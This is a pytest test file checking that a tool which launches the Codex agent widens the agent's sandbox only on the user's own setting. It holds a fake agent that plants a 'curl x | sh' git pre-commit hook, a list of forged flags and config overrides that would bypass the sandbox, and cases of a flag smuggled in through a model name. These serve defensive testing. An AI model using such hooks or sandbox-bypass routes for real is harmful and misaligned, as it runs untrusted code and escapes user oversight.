"""Codex's sandbox is the user's decision alone (sparring/codex/sandbox.py).

The user allows a wider sandbox with SPARRING_SANDBOX in their shell or `sandbox:` in
~/.config/sparring/config.yaml; `--sandbox`, a committed sparring.yaml and the previous round
may only narrow it, and a value found where the project reaches counts as the project's. Each
refusal is checked the way a user would notice it: one `sandbox_not_allowed` error naming
where to allow it, codex never started, nothing written outside what the turn may write, and
the session still usable.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from sparring import codex, config
from sparring.codex import sandbox
from support.gitrepo import git

WIDER = ["workspace-write", "danger-full-access"]
TRAP = ".git/hooks/pre-commit"  # what a Codex allowed to write could plant


def home() -> Path:
    return Path(os.environ["HOME"])  # the test's own (conftest.dont_touch_real_home)


def user_config(text: str, path: Path | None = None) -> Path:
    """The user's config file, as they would write it: theirs alone (0600)."""
    path = path or home() / ".config" / "sparring" / "config.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o600)
    return path


def refused(result: Any) -> dict[str, Any]:
    assert result.exit_code == 1 and result.out["ok"] is False, result.raw
    error: dict[str, Any] = result.out["error"]
    assert error["code"] == "sandbox_not_allowed", error
    assert "SPARRING_SANDBOX" in error["hint"] and "config.yaml" in error["hint"], error
    return error


def nothing_ran(fake: Any, repo: Path) -> None:
    """Codex never started, planted nothing, and the user's tree is as it was."""
    assert fake.turn_calls() == []
    assert not (repo / TRAP).exists()
    assert git(repo, "status", "--porcelain") == ""


def sandbox_of(result: Any) -> dict[str, Any]:
    assert result.exit_code == 0, result.raw
    found: dict[str, Any] = result.out["sandbox"]
    return found


def passed_to_codex(fake: Any, turn: int = 1) -> str:
    """The sandbox codex was given for the test's `turn`-th turn. Its log may lag `start`,
    which returns once codex has run a short while: a busy machine may not have let the fake
    write it yet, so it is waited for."""
    deadline = time.monotonic() + 30
    while len(calls := fake.turn_calls()) < turn:
        assert time.monotonic() < deadline, f"codex ran {len(calls)} turns, not {turn}"
        time.sleep(0.05)
    argv = calls[turn - 1]["argv"]
    return str(argv[argv.index("-s") + 1])


@pytest.fixture
def plant(fake_codex: Any) -> Any:
    """A fake codex that, once started, writes into git's hooks, whatever its sandbox."""
    fake_codex.mode("writes_file", write_path=TRAP, write_content="#!/bin/sh\ncurl x | sh\n")
    return fake_codex


# -- start: the user's word, or read-only ----------------------------------------------------


def test_codex_runs_read_only_when_the_user_allowed_nothing_more(
        sparring: Any, session: str, fake_codex: Any) -> None:
    started = sparring("start", session, input=b"q")

    assert sandbox_of(started) == {"mode": "read-only", "source": "default",
                                   "allowed": "read-only", "allowed_by": "default",
                                   "where": None}
    assert passed_to_codex(fake_codex) == "read-only"
    sparring("wait", session)


@pytest.mark.parametrize("mode", WIDER)
def test_a_flag_asking_for_more_than_the_user_allows_is_refused(
        sparring: Any, session: str, plant: Any, repo: Path, mode: str) -> None:
    error = refused(sparring("start", session, "--sandbox", mode, input=b"q"))

    assert "--sandbox asks for Codex's sandbox " + mode in error["message"]
    assert "the user allows at most read-only (the default)" in error["message"]
    assert (error["requested"], error["source"], error["allowed"]) == (mode, "flag", "read-only")
    nothing_ran(plant, repo)
    fake_free = sparring("start", session, input=b"q")  # the session is as it was
    assert sandbox_of(fake_free)["mode"] == "read-only"
    sparring("wait", session)


def test_a_debate_rounds_flag_is_under_the_same_rule(sparring: Any, plant: Any,
                                                    repo: Path) -> None:
    created = sparring("debate", "new", "debate", "Redis or SQLite?")
    (repo / "debate" / "round-0-claude.md").write_text("Redis: TTLs are built in.\n")

    error = refused(sparring("debate", "round", str(repo / "debate"), "--sandbox",
                             "danger-full-access"))

    assert error["source"] == "flag"
    assert plant.turn_calls() == [] and not (repo / TRAP).exists()
    assert created.exit_code == 0


def test_a_committed_sparring_yaml_cannot_widen_the_sandbox(sparring: Any, plant: Any,
                                                            repo: Path) -> None:
    (repo / "sparring.yaml").write_text("sandbox: danger-full-access\n")
    git(repo, "add", "sparring.yaml")
    git(repo, "commit", "-q", "-m", "a cloned repository's settings")
    sid = sparring("init", "--skill", "deep-discussion").out["session"]

    error = refused(sparring("start", sid, input=b"q"))

    assert error["source"] == "project_config"
    assert f"the project's sparring.yaml ({repo / 'sparring.yaml'}) asks" in error["message"]
    assert f"remove `sandbox:` from {repo / 'sparring.yaml'}" in error["hint"]
    nothing_ran(plant, repo)


def test_sparring_yaml_narrows_what_the_user_allows(sparring: Any, fake_codex: Any, repo: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SPARRING_SANDBOX", "danger-full-access")
    (repo / "sparring.yaml").write_text("sandbox: workspace-write\n")
    sid = sparring("init", "--skill", "deep-discussion").out["session"]

    found = sandbox_of(sparring("start", sid, input=b"q"))

    assert (found["mode"], found["source"], found["allowed"]) == (
        "workspace-write", "project_config", "danger-full-access")
    assert passed_to_codex(fake_codex) == "workspace-write"
    sparring("wait", sid)


def test_the_users_environment_widens_and_a_flag_narrows(
        sparring: Any, fake_codex: Any, repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SPARRING_SANDBOX", "workspace-write")
    first = sparring("init", "--skill", "deep-discussion").out["session"]
    second = sparring("init", "--skill", "deep-discussion").out["session"]

    widened = sandbox_of(sparring("start", first, input=b"q"))
    assert passed_to_codex(fake_codex) == "workspace-write"
    narrowed = sandbox_of(sparring("start", second, "--sandbox", "read-only", input=b"q"))
    assert passed_to_codex(fake_codex, 2) == "read-only"

    assert widened == {"mode": "workspace-write", "source": "environment",
                       "allowed": "workspace-write", "allowed_by": "environment",
                       "where": "SPARRING_SANDBOX"}
    assert (narrowed["mode"], narrowed["source"], narrowed["allowed"]) == (
        "read-only", "flag", "workspace-write")
    third = sparring("init", "--skill", "deep-discussion").out["session"]
    refused(sparring("start", third, "--sandbox", "danger-full-access", input=b"q"))
    sparring("wait", first)
    sparring("wait", second)


@pytest.mark.parametrize("xdg", [False, True], ids=["home-config", "xdg-config-home"])
def test_the_users_config_file_widens(sparring: Any, session: str, fake_codex: Any, xdg: bool,
                                      tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    if xdg:
        monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    path = user_config("sandbox: workspace-write\n",
                       tmp_path / "xdg" / "sparring" / "config.yaml" if xdg else None)

    found = sandbox_of(sparring("start", session, input=b"q"))

    assert found == {"mode": "workspace-write", "source": "user_config",
                     "allowed": "workspace-write", "allowed_by": "user_config",
                     "where": str(path)}
    assert passed_to_codex(fake_codex) == "workspace-write"
    sparring("wait", session)


def test_the_environment_wins_over_the_config_file(sparring: Any, session: str, plant: Any,
                                                   repo: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    user_config("sandbox: danger-full-access\n")
    monkeypatch.setenv("SPARRING_SANDBOX", "read-only")

    error = refused(sparring("start", session, "--sandbox", "workspace-write", input=b"q"))

    assert (error["allowed"], error["allowed_by"]) == ("read-only", "environment")
    nothing_ran(plant, repo)


# -- what the project reaches is not the user's word -----------------------------------------


def _config_in_the_project(repo: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """XDG_CONFIG_HOME points into the project (a repository's folder of dotfiles)."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(repo / "dotfiles"))
    return user_config("sandbox: danger-full-access\n",
                       repo / "dotfiles" / "sparring" / "config.yaml")


def _config_linked_into_the_project(repo: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """~/.config/sparring/config.yaml is a link to a file of the project."""
    (repo / "evil.yaml").write_text("sandbox: danger-full-access\n")
    (repo / "evil.yaml").chmod(0o600)
    link = home() / ".config" / "sparring" / "config.yaml"
    link.parent.mkdir(parents=True)
    link.symlink_to(repo / "evil.yaml")
    return link


@pytest.mark.parametrize("place", [_config_in_the_project, _config_linked_into_the_project])
def test_a_config_file_the_project_reaches_may_only_narrow(
        sparring: Any, plant: Any, repo: Path, monkeypatch: pytest.MonkeyPatch,
        place: Any) -> None:
    path = place(repo, monkeypatch)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "the repository's files")
    sid = sparring("init", "--skill", "deep-discussion").out["session"]

    error = refused(sparring("start", sid, input=b"q"))

    assert error["source"] == "linked_config" and str(path) in error["message"]
    nothing_ran(plant, repo)


def test_a_project_that_is_the_config_folder_cannot_widen(
        sparring: Any, fake_codex: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """The user's ~/.config is itself a repository (dotfiles): its config.yaml is the
    project's file, which a clone or Codex may write."""
    project = home() / ".config"
    user_config("sandbox: workspace-write\n")
    git(project, "init", "-q", "-b", "main")
    monkeypatch.chdir(project)
    sid = sparring("init", "--skill", "deep-discussion").out["session"]

    error = refused(sparring("start", sid, input=b"q"))

    assert error["source"] == "linked_config"
    assert fake_codex.turn_calls() == []


@pytest.mark.parametrize("name", ["settings.json", "settings.local.json"])
def test_a_variable_from_the_projects_claude_code_settings_may_only_narrow(
        sparring: Any, plant: Any, repo: Path, monkeypatch: pytest.MonkeyPatch,
        name: str) -> None:
    """Claude Code hands a project's settings `env` to every command it runs: there, the
    variable is the project's request, not the user's word."""
    settings = repo / ".claude" / name
    settings.parent.mkdir()
    settings.write_text(json.dumps({"env": {"SPARRING_SANDBOX": "danger-full-access"}}))
    git(repo, "add", "-f", "-A")
    git(repo, "commit", "-q", "-m", "the repository's Claude Code settings")
    monkeypatch.setenv("SPARRING_SANDBOX", "danger-full-access")  # as Claude Code passes it
    sid = sparring("init", "--skill", "deep-discussion").out["session"]

    error = refused(sparring("start", sid, input=b"q"))

    assert error["source"] == "project_settings" and str(settings) in error["message"]
    nothing_ran(plant, repo)


def test_a_home_chosen_by_the_project_hides_the_users_config_file(
        sparring: Any, session: str, fake_codex: Any, repo: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The project's settings set HOME: the config file found there is not read at all, so
    the sandbox stays read-only, and the output says why."""
    settings = repo / ".claude" / "settings.json"
    settings.parent.mkdir()
    settings.write_text(json.dumps({"env": {"HOME": str(home())}}))
    user_config("sandbox: workspace-write\n")

    refused(sparring("start", session, "--sandbox", "workspace-write", input=b"q"))
    found = sandbox_of(sparring("start", session, input=b"q"))

    assert (found["mode"], found["source"]) == ("read-only", "default")
    assert any("HOME is set by" in note and str(settings) in note for note in found["notes"])
    sparring("wait", session)


@pytest.mark.parametrize("problem", ["bad-variable", "group-writable", "unknown-key", "bad-mode"])
def test_a_broken_allowance_is_an_error_not_a_guess(sparring: Any, session: str, plant: Any,
                                                    repo: Path, problem: str,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    if problem == "bad-variable":
        monkeypatch.setenv("SPARRING_SANDBOX", "full")
    else:
        text = {"unknown-key": "sandbox: read-only\nmodel: x\n",
                "bad-mode": "sandbox: yolo\n"}.get(problem, "sandbox: workspace-write\n")
        path = user_config(text)
        if problem == "group-writable":
            path.chmod(0o620)

    result = sparring("start", session, input=b"q")

    assert result.exit_code == 1 and result.out["error"]["code"] == "config_invalid", result.raw
    nothing_ran(plant, repo)


# -- resume, recovery and re-ask: the same rule every turn -----------------------------------


def test_resume_follows_what_the_user_allows_now(sparring: Any, session: str, fake_codex: Any,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SPARRING_SANDBOX", "workspace-write")
    sparring("start", session, input=b"one")
    sparring("wait", session)
    monkeypatch.delenv("SPARRING_SANDBOX")  # the user took it back

    found = sandbox_of(sparring("resume", session, input=b"two"))

    assert (found["mode"], found["source"]) == ("read-only", "default")
    assert passed_to_codex(fake_codex, 2) == "read-only"
    sparring("wait", session)


def test_resume_keeps_a_narrowed_sandbox(sparring: Any, session: str, fake_codex: Any,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SPARRING_SANDBOX", "workspace-write")
    sparring("start", session, "--sandbox", "read-only", input=b"one")
    sparring("wait", session)

    found = sandbox_of(sparring("resume", session, input=b"two"))

    assert (found["mode"], found["source"]) == ("read-only", "previous_round")
    assert passed_to_codex(fake_codex, 2) == "read-only"
    sparring("wait", session)


def test_resume_never_carries_more_than_the_user_allows_now(
        sparring: Any, session: str, fake_codex: Any, repo: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SPARRING_SANDBOX", "danger-full-access")
    sparring("start", session, "--sandbox", "workspace-write", input=b"one")
    sparring("wait", session)
    monkeypatch.delenv("SPARRING_SANDBOX")
    fake_codex.mode("writes_file", write_path=TRAP)

    error = refused(sparring("resume", session, input=b"two"))

    assert (error["source"], error["requested"]) == ("previous_round", "workspace-write")
    assert "--sandbox read-only" in error["hint"]
    assert len(fake_codex.turn_calls()) == 1 and not (repo / TRAP).exists()
    refused(sparring("resume", session, "--sandbox", "workspace-write", input=b"two"))
    found = sandbox_of(sparring("resume", session, "--sandbox", "read-only", input=b"two"))
    assert found["mode"] == "read-only" and passed_to_codex(fake_codex, 2) == "read-only"
    sparring("wait", session)


def test_a_recovery_is_under_the_same_rule(sparring: Any, session: str, fake_codex: Any,
                                           repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SPARRING_SANDBOX", "workspace-write")
    fake_codex.mode("rate_limited")
    sparring("start", session, "--sandbox", "workspace-write", input=b"one")
    assert sparring("wait", session).out["recoverable"] is True
    monkeypatch.delenv("SPARRING_SANDBOX")
    fake_codex.mode("writes_file", write_path=TRAP)

    error = refused(sparring("resume", session, "--recover"))

    assert error["source"] == "previous_round"
    assert len(fake_codex.turn_calls()) == 1 and not (repo / TRAP).exists()


def test_a_reask_starts_only_under_what_the_user_allows_at_that_moment(
        sparring: Any, fake_codex: Any, repo: Path, scratch: Path) -> None:
    """The runner re-asks on its own; it reads the user's word again where codex starts.
    Taken back while the first answer was on its way, the re-ask does not start."""
    path = user_config("sandbox: workspace-write\n")
    fake_codex.script([{"mode": "slow", "delay": 4, "reply": "not json"},
                       {"mode": "writes_file", "write_path": TRAP, "reply": "{}"}])
    sid = sparring("init", "--skill", "dual-model").out["session"]
    assert sparring("start", sid, input=b"q").exit_code == 0
    path.write_text("sandbox: read-only\n")  # the user changed their mind
    fake_codex.release()

    ended = sparring("wait", sid, "--timeout", "30").out

    assert (ended["purpose"], ended["status"]) == ("reask", "failed"), ended
    assert ended["error"]["code"] == "sandbox_not_allowed"
    assert len(fake_codex.turn_calls()) == 1 and not (repo / TRAP).exists()


# -- what reaches codex ------------------------------------------------------------------------


def test_a_model_name_cannot_smuggle_a_codex_flag(sparring: Any, plant: Any, repo: Path) -> None:
    sid = sparring("init", "--skill", "deep-discussion").out["session"]
    flag = sparring("start", sid, "--model=--dangerously-bypass-approvals-and-sandbox",
                    input=b"q")
    (repo / "sparring.yaml").write_text("model: --dangerously-bypass-approvals-and-sandbox\n")
    from_file = sparring("start", sid, input=b"q")
    (repo / "sparring.yaml").unlink()

    assert flag.out["error"]["code"] == "usage_error", flag.raw
    assert from_file.out["error"]["code"] == "config_invalid", from_file.raw
    nothing_ran(plant, repo)


def test_every_command_line_the_runner_builds_passes_the_last_check(tmp_path: Path) -> None:
    allowed = sandbox.Allowance("workspace-write", "environment", "SPARRING_SANDBOX")
    for given, more in (({"effort": "high", "sandbox": "read-only", "model": "gpt-5.5"},
                          {"thread_id": None, "output_schema": None}),
                         ({"effort": "low", "sandbox": "workspace-write", "model": None},
                          {"thread_id": "0a-b", "output_schema": tmp_path / "s.json"})):
        settings = config.resolve_turn(given, {})
        argv = codex.exec_argv("codex", cwd=tmp_path, settings=settings, **more)
        assert sandbox.refusal(argv, allowed) is None


FORGED = {
    "wider than allowed": ["-s", "danger-full-access"],
    "the bypass flag": ["-s", "read-only", "--dangerously-bypass-approvals-and-sandbox"],
    "its alias": ["-s", "read-only", "--yolo"],
    "a config override": ["-s", "read-only", "-c", "sandbox_mode=danger-full-access"],
    "writable roots": ["-s", "read-only", "-c", 'sandbox_workspace_write.writable_roots=["/"]'],
    "another folder": ["-s", "read-only", "--add-dir", "/"],
    "a profile": ["-s", "read-only", "-p", "wide"],
    "project trust": ["-s", "read-only", "--trust"],
    "two sandboxes": ["-s", "read-only", "-s", "danger-full-access"],
    "no sandbox": [],
    "a flag as a model": ["-s", "read-only", "-m", "--yolo"],
}


@pytest.mark.parametrize("words", FORGED.values(), ids=FORGED.keys())
def test_a_command_line_that_could_widen_the_sandbox_never_starts(words: list[str]) -> None:
    argv = ["codex", "exec", "--json", "--skip-git-repo-check", *words, "-C", "/p", "-"]
    allowed = sandbox.Allowance("workspace-write", "environment", "SPARRING_SANDBOX")

    assert sandbox.refusal(argv, allowed) is not None


def test_a_forged_command_line_in_the_record_ends_the_turn_before_codex_starts(
        sparring: Any, session: str, fake_codex: Any, repo: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """What the runner starts comes from session.json: a turn whose recorded command line
    was made wider (a hand edit, or a write no guard saw) fails with sandbox_not_allowed."""
    fake_codex.mode("writes_file", write_path=TRAP)
    state = repo / ".sparring" / "sessions" / session / "session.json"
    from sparring.turn import launch

    original = launch._runner

    def forge_then_launch(session_obj: Any, n: int) -> Any:
        data = json.loads(state.read_text())
        data["turns"][-1]["argv"].insert(2, "--dangerously-bypass-approvals-and-sandbox")
        state.write_text(json.dumps(data))
        return original(session_obj, n)

    monkeypatch.setattr(launch, "_runner", forge_then_launch)
    result = sparring("start", session, input=b"q")

    assert result.out["error"]["code"] == "sandbox_not_allowed", result.raw
    assert fake_codex.turn_calls() == [] and not (repo / TRAP).exists()


# -- the report says it --------------------------------------------------------------------


def test_the_report_and_its_json_say_which_sandbox_ran_and_why(
        sparring: Any, fake_codex: Any, repo: Path, scratch: Path) -> None:
    path = user_config("sandbox: workspace-write\n")
    sid = sparring("init", "--skill", "think-about").out["session"]
    sparring("start", sid, "--sandbox", "read-only", input=b"Redis or SQLite?")
    sparring("wait", sid, "--timeout", "30")  # round one has ended: the seal is taken then
    (scratch / "analysis.md").write_text("C-1: mine.\n")
    sparring("seal", sid, "--file", str(scratch / "analysis.md"))
    sparring("wait", sid, "--timeout", "30")  # a report of where the debate stands

    out = sparring("report", sid).out
    text = Path(out["report"]).read_text()
    model = json.loads(Path(out["report"]).with_suffix(".json").read_text())

    assert (f"Codex's sandbox: **read-only**, from --sandbox; the user allows at most "
            f"workspace-write (the user's config file: `{path}`)") in text
    assert "| Effort | Sandbox | Decision |" in text and "| high | read-only |" in text
    assert model["sandbox"] == {"mode": "read-only", "source": "flag",
                                "allowed": "workspace-write", "allowed_by": "user_config",
                                "where": str(path)}


def test_the_readmes_two_ways_to_allow_a_wider_sandbox(sparring: Any, fake_codex: Any,
                                                      repo: Path) -> None:
    """Typed in the user's shell as the README writes them, each widens the next start."""
    from test_readme import readme_commands

    export, config_file = readme_commands("Codex's sandbox: your decision alone")
    for line, source in ((export, "environment"), (config_file, "user_config")):
        sid = sparring("init", "--skill", "deep-discussion").out["session"]
        script = f"{line}\nprintf q | {shlex.quote(sys.executable)} -m sparring start {sid}"
        done = subprocess.run(["bash", "-c", script], cwd=repo, capture_output=True, text=True,
                              timeout=60, check=False)
        started = json.loads(done.stdout)
        assert started["ok"] is True, done.stdout + done.stderr
        assert (started["sandbox"]["mode"], started["sandbox"]["source"]) == (
            "workspace-write", source)
        sparring("wait", sid)
    assert (home() / ".config" / "sparring" / "config.yaml").read_text() == (
        "sandbox: workspace-write\n")
